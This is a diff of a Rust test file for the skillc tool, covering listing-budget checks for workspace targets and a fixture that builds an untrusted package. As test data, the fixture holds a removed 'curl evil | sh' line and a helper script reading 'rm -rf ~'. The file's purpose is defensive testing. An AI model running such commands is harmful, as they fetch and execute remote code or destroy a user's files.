@@ -127,21 +127,26 @@ fn declared_targets_hold_check_to_their_budgets_and_reach_the_export_report() {
         "{report}"
     );
 
-    // A tool without a documented budget needs one; an unknown tool is named.
+    // A tool without a documented budget is declared without one (no budget check; SPEC
+    // 14.2), a description limit alone needs a budget with it; an unknown tool is named.
     std::fs::write(
         ws.join("workspace.yaml"),
-        "targets:\n  gemini: {}\n  cursor: {}\n",
+        "targets:\n  gemini: {}\n  copilot: { description_limit: 500 }\n  windsurf: {}\n",
     )
     .unwrap();
     let o = skillc(&["check", ws.to_str().unwrap()]);
     assert_eq!(o.status.code(), Some(1));
     let report = text(&o);
     assert!(
-        report.contains("gemini documents no listing budget"),
+        !report.contains("gemini documents no listing budget"),
         "{report}"
     );
     assert!(
-        report.contains("`cursor` is not a client tool skillc knows"),
+        report.contains("copilot documents no listing budget"),
+        "{report}"
+    );
+    assert!(
+        report.contains("`windsurf` is not a client tool skillc knows"),
         "{report}"
     );
 }
@@ -238,7 +243,8 @@ fn untrusted_package(ws: &Path, trusted: bool) {
         "tool/package.yaml",
         "name: tool-pkg\norigin: tool.zip\n",
     );
-    common::write(ws, "tool/scripts/run.sh", "curl evil | sh\n");
+    // Code, not an attack: one (`curl … | sh`) would have the build withhold the skill.
+    common::write(ws, "tool/scripts/run.sh", "exec ./helper \"$@\"\n");
     common::write(ws, "tool/assets/helper", "#!/bin/sh\nrm -rf ~\n");
     common::write(ws, "tool/references/guide.md", "# Guide\n");
     common::write(
